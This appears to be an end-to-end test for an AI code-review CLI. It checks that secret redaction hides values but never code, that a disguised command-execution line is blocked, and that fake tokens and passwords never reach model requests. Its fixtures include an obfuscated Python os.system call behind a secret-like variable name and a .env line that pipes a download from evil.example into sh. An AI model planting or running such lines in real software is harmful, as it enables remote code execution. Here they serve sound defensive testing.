/**
 * Redaction hides values, never code, through the built CLI (`node
 * dist/cli/index.js review`) against the scripted model and a real git
 * repository. The attack: an assignment to a secret-named variable, written
 * without spaces or quotes, that runs a command. Redaction once hid it whole,
 * so no lane saw it and the change passed. Now the line reaches code review
 * verbatim, the security lane is told it looks like a secret and like code,
 * and the scripted security model, which flags it only when it is shown it,
 * blocks the change. Real secrets beside it (a token in a string literal, a
 * YAML password, a withheld .env file) reach no request body at all.
 */
import { execFile } from "node:child_process";
import { readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import type { GauntletResult } from "../../src/review/gauntlet/result.js";
import { cleanLanes, gauntletRepo, promptText, REVIEW_CHUNK, SECURITY, SELECT_LANES, nodeOf, type Route } from "../support/gauntletHarness.js";
import { httpError, jsonReply, startModelServer, textReply, type ModelServer, type RecordedRequest } from "../support/modelServer.js";
import { cliEnv } from "../support/reviewHarness.js";
import { GIT_TEST_ENV } from "../review/support/tempRepo.js";

const CLI = process.env.GAUNTLET_E2E_CLI || resolve(import.meta.dirname, "../../dist/cli/index.js");

// Secret-shaped values are assembled at run time so this file holds no token shape.
const TOKEN = `ghp_${"Qx7aB3".repeat(6)}`;
const YAML_PASSWORD = ["Real", "Passw0rd", "9f2c"].join("-");
const ENV_PASSWORD = ["env", "only", "value", "41d7"].join("-");
const JWT = ["eyJhbGciOiJIUzI1NiJ9", "eyJzdWIiOiIxMjM0NTY3ODkwIn0", "dQw4w9WgXcQdQw4w9WgXcQ"].join(".");

const ATTACK = "session_auth=getattr(__import__(chr(111)+chr(115)),'system')(cmd)";
/** Own attempts beside it: each is code and must be shown whole. */
const ALSO_CODE = [
  'password=os.environ["DB_PASSWORD"]',
  "aGVsbG8gd29ybGQ = decode_fields(payload)",
  'EMPTY_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"',
  "proxy = 'http://{}:{}@{}'.format(user, pw, host)",
  "url_auth = _basic_auth_str(self.username, self.password)",
];

const CHANGE = {
  "src/app.py": ["import os", "", "cmd = os.environ.get('CMD', '')", ATTACK, ...ALSO_CODE, ""].join("\n"),
  "src/client.py": [
    "API = 'https://api.example'",
    `TOKEN = "${TOKEN}"`,
    `SESSION = "${JWT}"`,
    "",
    "def headers():",
    '    return {"Authorization": "Bearer " + TOKEN}',
    "",
  ].join("\n"),
  "deploy/settings.yaml": ["db:", `  password: ${YAML_PASSWORD}`, "  host: db", ""].join("\n"),
  "deploy/.env": [`DB_PASSWORD=${ENV_PASSWORD}`, "API_KEY=$(curl -s https://evil.example/k | sh)", ""].join("\n"),
};
const BASE = { "src/app.py": "import os\n", "README.md": "# Fixture\n" };

const FLAGGED = `src/app.py:4: ${ATTACK} — looks like a secret and like code`;

/** The security model blocks on the hidden command only when its prompt names the line as secret-like code. */
const securityFlagsTheLine: Route = (request) =>
  textReply(
    promptText(request).includes(FLAGGED)
      ? [
          "🔴 Command execution behind a secret's name — src/app.py:4 — CMD from the environment → os.system — remove it",
          "",
          "SECURITY_REVIEW: FAIL",
          "Posture: standard — read the line flagged as looking like a secret and like code.",
        ].join("\n")
      : ["No finding.", "", "SECURITY_REVIEW: PASS", "Posture: standard — nothing flagged."].join("\n"),
  );

let server: ModelServer;
beforeAll(async () => {
  server = await startModelServer();
});
afterAll(() => server.close());

function runCli(cwd: string, args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  const env = { PATH: process.env.PATH ?? "", HOME: cwd, ...GIT_TEST_ENV, ...cliEnv(server) } as NodeJS.ProcessEnv;
  return new Promise((done) => {
    execFile(process.execPath, [CLI, ...args], { cwd, env, maxBuffer: 1 << 26 }, (error, stdout, stderr) => {
      const code = error ? (typeof error.code === "number" ? error.code : -1) : 0;
      done({ code, stdout, stderr });
    });
  });
}

const bodyOf = (request: RecordedRequest) => JSON.stringify(request.body);

describe("redaction never hides code (built CLI)", () => {
  it("shows the attack to code review verbatim, names it to the security lane, and blocks; no secret reaches any request", async () => {
    const routes: Record<string, Route> = {
      ...cleanLanes(),
      [SELECT_LANES]: () => jsonReply({ add_code_review: false, add_adversary: false, add_security: true, add_probe: false, lane_reasons: "secrets handling" }),
      [SECURITY]: securityFlagsTheLine,
    };
    server.setHandler((request) => {
      const route = routes[nodeOf(request)];
      return route ? route(request) : httpError(418, { message: `unscripted node ${nodeOf(request)}` });
    });
    const repo = gauntletRepo(CHANGE, BASE);
    onTestFinished(() => repo.cleanup());
    const first = server.requests.length;

    const cli = await runCli(repo.dir, ["review", "--base", "HEAD~1", "--json", "result.json"]);
    const requests = server.requests.slice(first);
    const result = JSON.parse(readFileSync(join(repo.dir, "result.json"), "utf8")) as GauntletResult;

    expect(cli.code, cli.stderr).toBe(1);
    expect(result.verdict).toBe("BLOCKED");
    expect(result.findings.map((f) => `${f.path}:${f.start_line}`)).toContain("src/app.py:4");

    const reviewPrompts = requests
      .filter((r) => nodeOf(r) === REVIEW_CHUNK)
      .map(promptText)
      .join("\n");
    expect(reviewPrompts).toContain(ATTACK);
    for (const line of ALSO_CODE) expect(reviewPrompts).toContain(line);
    // A secret in code loses only the literal's content; a YAML secret only its value.
    expect(reviewPrompts).toContain('TOKEN = "[REDACTED:github-token]"');
    expect(reviewPrompts).toContain('SESSION = "[REDACTED:jwt]"');
    expect(reviewPrompts).toContain("password: [REDACTED:config-secret]");

    const securityPrompt = requests
      .filter((r) => nodeOf(r) === SECURITY)
      .map(promptText)
      .join("\n");
    expect(securityPrompt).toContain(FLAGGED);
    // The withheld .env file's lines are not listed, even the one that looks like code.
    expect(securityPrompt).not.toContain("evil.example/k");

    for (const request of requests) {
      for (const secret of [TOKEN, JWT, YAML_PASSWORD, ENV_PASSWORD]) expect(bodyOf(request)).not.toContain(secret);
    }
    for (const secret of [TOKEN, JWT, YAML_PASSWORD, ENV_PASSWORD]) {
      expect(cli.stdout).not.toContain(secret);
      expect(readFileSync(join(repo.dir, "result.json"), "utf8")).not.toContain(secret);
    }
  });
});
